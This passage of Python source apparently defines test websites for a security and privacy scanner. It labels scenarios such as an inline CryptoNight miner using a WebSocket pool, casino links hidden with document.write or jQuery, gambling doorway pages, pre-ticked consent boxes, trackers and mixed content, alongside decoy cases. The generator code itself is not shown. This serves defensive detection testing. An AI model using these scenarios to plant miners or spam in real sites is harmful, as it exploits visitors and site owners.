    "content-miner-inline": ("inline WebAssembly CryptoNight worker talking to a pool over WebSocket", _miner_inline),
    "content-miner-trap": ("legitimate WebAssembly and WebSocket, news about Monero", _miner_trap),
    "content-script-write": ("casino links written off-screen by document.write with \\u escapes", _script_write),
    "content-script-jquery": ("casino link appended by jQuery into a hidden class, percent-encoded", _script_jquery),
    "content-gambling-doorway": ("an Indonesian 'slot gacor' doorway page in an upload folder", _gambling_doorway),
    "content-gambling-vi": ("Vietnamese betting spam written without diacritics, visible, with off-site links",
                            _gambling_vi),
    "content-gambling-news": ("police news about a betting ring, lottery results, sports news", _gambling_news),
    "content-script-trap": ("scripts writing a visible menu link, a news ticker and a hidden visit counter",
                            _script_trap),
    "b-nopolicy": ("no policy: 'Chính sách bảo mật' links the home page, 'Quyền riêng tư' the contact page, "
                   "'Chính sách' tax news", _nopolicy),
    "b-terms": ("policy as a section of 'Điều khoản sử dụng'; analytics held back by a consent manager", _terms),
    "b-pdf": ("policy as a PDF served by nginx, reached from a hub of policies (footer 'Chính sách' -> hub -> PDF)",
              _pdf),
    "b-preticked": ("forms with a pre-ticked box, 'by submitting you agree' text, a hidden consent field",
                    _preticked),
    "b-trackers": ("Meta Pixel and Clarity on the home page, Yandex Metrica and TikTok on a news page", _trackers),
    "c-httpform": ("HTTPS page with a form posting to http://, and one whose button's formaction does", _http_form),
    "c-mixed": ("HTTPS page loading a script, stylesheet and iframe (and an image) over http://", _mixed),
    "c-passive": ("image and video over http:// (warning); http:// script on a page with upgrade-insecure-requests",
                  _passive),
}


def content_files(name: str, host: str) -> dict[str, bytes]:
    """The extra (or replacing) files of a site: the policy page for every site, more for content sites."""
    files = {POLICY_PATH: page("Chính sách bảo mật", POLICY_HTML).encode()}
    if name in CONTENT_SITES:
        files.update(CONTENT_SITES[name][1](host))
    return files
